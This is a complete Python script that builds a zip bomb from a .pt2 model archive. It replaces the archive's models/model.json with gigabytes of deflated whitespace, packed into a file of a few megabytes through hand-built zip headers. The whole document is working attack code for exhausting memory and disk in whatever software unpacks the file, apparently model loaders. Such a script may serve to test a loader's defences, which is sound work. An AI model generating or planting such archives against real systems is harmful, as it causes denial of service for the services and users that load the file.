#!/usr/bin/env python3
"""zipbomb.py BASE OUT SIZE: the .pt2 archive BASE with its models/model.json
replaced by SIZE bytes of JSON whitespace, deflated: a zip bomb (2 GiB fit in
2 MB), made without ever holding SIZE bytes. python3's zipfile and zlib only."""
import struct
import sys
import zipfile
import zlib

CHUNK = 1 << 20


def deflated_spaces(size):
    """Raw deflate of size spaces, with their CRC32: one MiB compressed once and
    repeated (a full flush resets the compressor, so each chunk's bytes are the
    same), then the tail."""
    block = b" " * CHUNK
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = co.compress(block) + co.flush(zlib.Z_FULL_FLUSH)
    whole, tail = divmod(size, CHUNK)
    crc = 0
    for _ in range(whole):
        crc = zlib.crc32(block, crc)
    end = co.compress(b" " * tail) + co.flush()
    crc = zlib.crc32(b" " * tail, crc)
    return first * whole + end, crc


def write_zip(path, entries):
    """entries: (name, method, data as stored, crc, inflated size); sizes below 4 GiB."""
    with open(path, "wb") as f:
        central = b""
        for name, method, data, crc, usize in entries:
            n = name.encode()
            off = f.tell()
            f.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0, crc,
                                len(data), usize, len(n), 0) + n + data)
            central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0,
                                   0, crc, len(data), usize, len(n), 0, 0, 0, 0, 0,
                                   off) + n
        cd = f.tell()
        f.write(central)
        f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries),
                            len(central), cd, 0))


def stored(name, data):
    return (name, 0, data, zlib.crc32(data), len(data))


def rewrite(base, out, model_json):
    """base's entries, stored, with models/model.json given by model_json(name)."""
    entries = []
    with zipfile.ZipFile(base) as z:
        for i in z.infolist():
            data = z.read(i)
            if i.filename.endswith("/models/model.json"):
                entries.append(model_json(i.filename))
            else:
                entries.append(stored(i.filename, data))
    write_zip(out, entries)


if __name__ == "__main__":
    base, out, size = sys.argv[1], sys.argv[2], int(sys.argv[3])
    data, crc = deflated_spaces(size)
    rewrite(base, out, lambda name: (name, 8, data, crc, size))
